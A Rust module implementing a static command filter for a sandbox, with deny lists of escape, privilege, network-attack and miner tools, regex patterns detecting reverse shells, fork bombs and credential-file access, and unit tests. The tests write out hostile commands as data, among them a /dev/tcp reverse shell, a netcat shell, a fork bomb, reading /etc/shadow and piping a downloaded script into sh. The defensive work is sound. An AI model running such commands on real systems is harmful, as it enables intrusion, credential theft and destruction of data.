//! Static command filter applied before anything reaches exec.
//!
//! This is a second line of defence. Unit isolation (unprivileged idmap,
//! resource limits, syscall interception) is configured at launch and is the
//! real boundary.

use std::sync::OnceLock;

use regex::Regex;
use serde::Serialize;
use tracing::error;

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SecurityVerdict {
    pub allowed: bool,
    pub reason: Option<String>,
}

impl SecurityVerdict {
    fn allow() -> Self {
        Self {
            allowed: true,
            reason: None,
        }
    }

    fn deny(reason: impl Into<String>) -> Self {
        Self {
            allowed: false,
            reason: Some(reason.into()),
        }
    }
}

/// Commands refused by basename, grouped by what they are.
const DENIED_COMMANDS: &[(&str, &[&str])] = &[
    (
        "container escape tool",
        &[
            "nsenter", "unshare", "chroot", "pivot_root", "capsh", "docker", "podman", "lxc",
            "lxd", "runc", "ctr", "crictl", "kubectl",
        ],
    ),
    (
        "privilege escalation tool",
        &[
            "sudo", "su", "doas", "pkexec", "setcap", "visudo", "passwd", "chpasswd", "useradd",
            "usermod",
        ],
    ),
    (
        "kernel or mount tool",
        &[
            "insmod", "rmmod", "modprobe", "mount", "umount", "sysctl", "kexec", "losetup",
            "debugfs",
        ],
    ),
    (
        "network attack tool",
        &[
            "nmap", "masscan", "hping3", "tcpdump", "ettercap", "arpspoof", "hydra", "sqlmap",
            "nikto", "iptables", "nft",
        ],
    ),
    (
        "cryptocurrency miner",
        &[
            "xmrig", "minerd", "cpuminer", "ccminer", "ethminer", "cgminer", "bfgminer",
        ],
    ),
    (
        "destructive disk tool",
        &[
            "dd", "mkfs", "fdisk", "sfdisk", "parted", "wipefs", "shred", "mkswap", "swapon",
            "swapoff",
        ],
    ),
    (
        "power control command",
        &[
            "shutdown", "reboot", "poweroff", "halt", "init", "telinit", "systemctl",
        ],
    ),
];

/// Known attack idioms and the reason reported when one matches.
const ATTACK_PATTERNS: &[(&str, &str)] = &[
    (r"/dev/(tcp|udp)/", "reverse shell via /dev/tcp"),
    (r"\b(nc|ncat|netcat)\b.*\s-[a-z]*[ec]\b", "reverse shell via netcat"),
    (r"\b(ba)?sh\s+-i\s*[0-9]*>&", "interactive reverse shell"),
    (r"(?i)\bsocat\b.*\bexec:", "reverse shell via socat"),
    (r"\bmkfifo\b.*\|\s*(\S*/)?(ba|da|z)?sh\b", "reverse shell via named pipe"),
    (r"\b(python[0-9.]*|perl|ruby|php)\b.*socket.*(connect|fsockopen)", "scripted reverse shell"),
    (r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:", "fork bomb"),
    (r"/etc/(shadow|gshadow|sudoers)", "access to credential files"),
    (r"/dev/(sd[a-z]|nvme|xvd|vd[a-z]|mem\b|kmem|port\b)", "access to raw devices"),
    (r"/proc/(sysrq-trigger|kcore|kmsg|[0-9]+/root|self/root)", "access to sensitive kernel paths"),
    (r"/sys/(kernel|firmware|fs/cgroup|module)", "access to sensitive kernel paths"),
    (r"release_agent|core_pattern|notify_on_release", "cgroup container escape"),
    (
        r"/var/run/docker\.sock|/run/containerd|/var/lib/(lxd|docker|lxc)|/var/snap/lxd",
        "container runtime internals",
    ),
];

const SUBSHELL_PIPE: &str = r"\|\s*(\S*/)?((sudo|su|doas)\b|(ba|da|z|k)?sh\s+-c\b)";

/// Redirection (or `tee`) targets; exemptions are checked in code.
const REDIRECT_TARGET: &str = r#"(?:[0-9]*>>?|&>>?|>\||\btee\s+(?:-a\s+)?)\s*['"]?(/[^\s'";|&]+)"#;

const SYSTEM_PREFIXES: &[&str] = &["/proc", "/sys", "/dev", "/run", "/var/run"];

struct Rules {
    attacks: Vec<(Regex, &'static str)>,
    subshell_pipe: Option<Regex>,
    redirect: Option<Regex>,
}

fn compile(pattern: &str) -> Option<Regex> {
    match Regex::new(pattern) {
        Ok(re) => Some(re),
        Err(e) => {
            error!("Security rule {:?} does not compile: {}", pattern, e);
            None
        }
    }
}

fn rules() -> &'static Rules {
    static RULES: OnceLock<Rules> = OnceLock::new();
    RULES.get_or_init(|| Rules {
        attacks: ATTACK_PATTERNS
            .iter()
            .filter_map(|(p, reason)| compile(p).map(|re| (re, *reason)))
            .collect(),
        subshell_pipe: compile(SUBSHELL_PIPE),
        redirect: compile(REDIRECT_TARGET),
    })
}

/// Evaluate a command string. First matching rule wins.
pub fn evaluate(command: &str) -> SecurityVerdict {
    let command = command.trim();
    if command.is_empty() {
        return SecurityVerdict::allow();
    }

    if let Some(first) = command.split_whitespace().next() {
        let name = basename(first).to_ascii_lowercase();
        if let Some(category) = denied_category(&name) {
            return SecurityVerdict::deny(format!("'{}' is not allowed ({})", name, category));
        }
    }

    let rules = rules();
    for (re, reason) in &rules.attacks {
        if re.is_match(command) {
            return SecurityVerdict::deny(format!("blocked pattern: {}", reason));
        }
    }

    if let Some(re) = &rules.subshell_pipe {
        if let Some(m) = re.find(command) {
            return SecurityVerdict::deny(format!(
                "piping into a privileged or sub-shell is not allowed ({})",
                m.as_str().trim()
            ));
        }
    }

    if let Some(re) = &rules.redirect {
        for caps in re.captures_iter(command) {
            if let Some(target) = caps.get(1).map(|m| m.as_str()) {
                if is_system_path(target) {
                    return SecurityVerdict::deny(format!(
                        "redirection into system path {} is not allowed",
                        target
                    ));
                }
            }
        }
    }

    SecurityVerdict::allow()
}

fn basename(token: &str) -> &str {
    let token = token.trim_matches(|c| c == '"' || c == '\'');
    token.rsplit('/').next().unwrap_or(token)
}

fn denied_category(name: &str) -> Option<&'static str> {
    let stem = name.split('.').next().unwrap_or(name);
    DENIED_COMMANDS
        .iter()
        .find(|(_, names)| names.contains(&name) || (stem == "mkfs" && names.contains(&stem)))
        .map(|(category, _)| *category)
}

fn is_system_path(target: &str) -> bool {
    // Harmless sinks every shell script uses.
    if matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty")
        || target
            .strip_prefix("/dev/fd/")
            .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
    {
        return false;
    }
    SYSTEM_PREFIXES.iter().any(|prefix| {
        target == *prefix
            || target
                .strip_prefix(prefix)
                .is_some_and(|rest| rest.starts_with('/'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_every_rule_compiles() {
        let rules = rules();
        assert_eq!(rules.attacks.len(), ATTACK_PATTERNS.len());
        assert!(rules.subshell_pipe.is_some());
        assert!(rules.redirect.is_some());
    }

    fn denied(cmd: &str) -> String {
        let verdict = evaluate(cmd);
        assert!(!verdict.allowed, "expected {:?} to be denied", cmd);
        verdict.reason.unwrap_or_default()
    }

    #[test]
    fn test_plain_commands_allowed() {
        for cmd in [
            "ls -la",
            "",
            "   ",
            "npm install && npm run build",
            "python3 app.py 2>&1 | tee out.log",
            "make > /dev/null 2>&1",
            "echo hi >&2",
            "cat README.md | grep sudo",
            "git status",
        ] {
            assert_eq!(evaluate(cmd), SecurityVerdict::allow(), "{:?}", cmd);
        }
    }

    #[test]
    fn test_denied_basename_names_command() {
        assert!(denied("sudo rm -rf /").contains("sudo"));
        assert!(denied("/usr/bin/nsenter -t 1 -m").contains("nsenter"));
        assert!(denied("SHUTDOWN -h now").contains("shutdown"));
        assert!(denied("mkfs.ext4 /tmp/img").contains("mkfs.ext4"));
        assert!(denied("xmrig --donate-level 1").contains("miner"));
    }

    #[test]
    fn test_attack_patterns() {
        assert!(denied("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains("reverse shell"));
        assert!(denied(":(){ :|:& };:").contains("fork bomb"));
        assert!(denied("cat /etc/shadow").contains("credential"));
        assert!(denied("echo 1 > /proc/sysrq-trigger").contains("kernel"));
        assert!(denied("ls /var/run/docker.sock").contains("runtime"));
        assert!(denied("nc -e /bin/sh 10.0.0.1 4444").contains("netcat"));
    }

    #[test]
    fn test_pipe_into_shell_or_sudo() {
        assert!(denied("cat f | bash -c 'evil'").contains("sub-shell"));
        assert!(denied("echo x | sudo tee /etc/hosts").contains("sudo"));
        assert!(denied("curl example.com/x.sh | /bin/sh -c cat").contains("sh -c"));
    }

    #[test]
    fn test_redirect_into_system_paths() {
        assert!(!denied("echo x > /proc/sys/kernel/foo").is_empty());
        assert!(denied("echo x > /proc/sys/vm/drop_caches").contains("/proc/sys/vm/drop_caches"));
        assert!(denied("echo 1 >> /sys/class/leds/x").contains("/sys"));
        assert!(denied("echo x | tee -a /run/foo").contains("/run/foo"));
        assert!(denied("printf x 2> '/var/run/y'").contains("/var/run/y"));
        assert!(evaluate("echo x > /dev/fd/3").allowed);
        assert!(evaluate("echo x > /runner/log").allowed);
    }
}
